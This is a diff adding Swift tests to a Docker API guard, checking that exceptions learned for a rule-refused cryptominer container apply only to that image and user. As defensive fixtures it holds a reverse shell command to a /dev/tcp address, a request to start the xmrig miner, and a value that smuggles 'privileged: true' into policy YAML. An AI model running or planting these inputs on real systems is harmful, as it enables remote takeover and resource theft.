@@ -1,3 +1,7 @@
+import Foundation
+import Judge
+import Relay
+import Sigma
 import Testing
 
 @testable import DockerGuard
@@ -76,5 +80,73 @@ import Testing
         _ = await watching.fate("POST", "/containers/create", body)
         let policy = try GuardUnderTest.policy(learner.policy)
         #expect(policy.otherwise?.allowances.openings == [.runtimes: .values(["x\"\n  privileged: true\n#"])])
+    }
+
+    // MARK: What rules refuse
+
+    /// Requests that a built-in rule refuses, and no part of the profile does.
+    private static let miner = #"{"Image":"registry.example.test/bench/xmrig:6","Cmd":["xmrig","-o","pool:3333"]}"#
+
+    private static func client(_ user: UInt32) -> Client {
+        var client = GuardUnderTest.client
+        client.peer = PeerCredentials(processID: 1, userID: user, groupID: user)
+        return client
+    }
+
+    /// A guard with what was learned from these requests of user 1000, over the built-in rules.
+    private static func learned(_ bodies: [String]) async throws -> (guarded: GuardUnderTest, learner: PolicyLearner) {
+        let learner = PolicyLearner(exceptionsFile: "/etc/tidewaiter/learned.exceptions.yml")
+        let watching = try GuardUnderTest(rules: .builtIn, mode: .observe, learner: learner)
+        for body in bodies {
+            #expect(await watching.fate("POST", "/containers/create", body, from: client(1000)) == .passes)
+        }
+        var rules = RuleLibrary.builtIn
+        if let exceptions = learner.exceptions { rules.add(exceptions, file: "learned.exceptions.yml") }
+        #expect(rules.diagnostics.map(\.description) == [])
+        #expect(rules.idleFilters().map(\.description) == [])
+        let policy = try GuardUnderTest.policy(learner.policy)
+        return (try GuardUnderTest(policy: policy, rules: rules), learner)
+    }
+
+    @Test func `what a rule refused is learned for the image and the user alone`() async throws {
+        let (guarded, learner) = try await Self.learned([Self.miner])
+        let path = "/containers/create"
+        #expect(await guarded.fate("POST", path, Self.miner, from: Self.client(1000)) == .passes)
+        #expect(await guarded.fate("POST", path, Self.miner, from: Self.client(1001)).isRefused)
+        #expect(await guarded.fate("POST", path, Self.miner).isRefused)
+        let other = Self.miner.replacingOccurrences(of: "bench/xmrig", with: "other/xmrig")
+        #expect(await guarded.fate("POST", path, other, from: Self.client(1000)).isRefused)
+        // The same image and user, found by another rule.
+        let command = #"["sh","-c","bash -i >& /dev/tcp/192.0.2.1/9 0>&1"]"#
+        let shell = #"{"Image":"registry.example.test/bench/xmrig:6","Cmd":\#(command)}"#
+        #expect(await guarded.fate("POST", path, shell, from: Self.client(1000)).isRefused)
+        #expect(learner.policy.contains("\nexceptions: \"/etc/tidewaiter/learned.exceptions.yml\"\n"))
+        #expect(try GuardUnderTest.policy(learner.policy).exceptionPaths == ["/etc/tidewaiter/learned.exceptions.yml"])
+    }
+
+    @Test func `exceptions are the same in whichever order requests come`() async throws {
+        let bodies = [Self.miner, Self.miner.replacingOccurrences(of: "bench/", with: "b/"), Self.miner]
+        let (first, second) = (try await Self.learned(bodies), try await Self.learned(bodies.reversed()))
+        let text = try #require(first.learner.exceptions)
+        #expect(text == second.learner.exceptions)
+        #expect(text.components(separatedBy: "---\n").count == 2)
+        #expect(text.contains("container.image.name: \"registry.example.test/b/xmrig\""))
+        #expect(text.contains("user.name|cased: \"uid:1000\""))
+    }
+
+    @Test func `where no rule refuses there are no exceptions, and the policy names none`() async throws {
+        let plain = try await Self.learned([#"{"Image":"alpine","Cmd":["true"]}"#]).learner
+        #expect(plain.exceptions == nil)
+        #expect(!plain.policy.contains("exceptions:"))
+    }
+
+    @Test func `a user whose name would stand for others is not learned`() async throws {
+        let learner = PolicyLearner()
+        let watching = try GuardUnderTest(rules: .builtIn, mode: .observe, learner: learner)
+        var client = GuardUnderTest.client
+        client.certificate = ClientCertificate(subject: "CN=*", commonName: "*")
+        _ = await watching.fate("POST", "/containers/create", Self.miner, from: client)
+        #expect(learner.exceptions == nil)
+        #expect(learner.policy.contains("no exception was learned"))
     }
 }
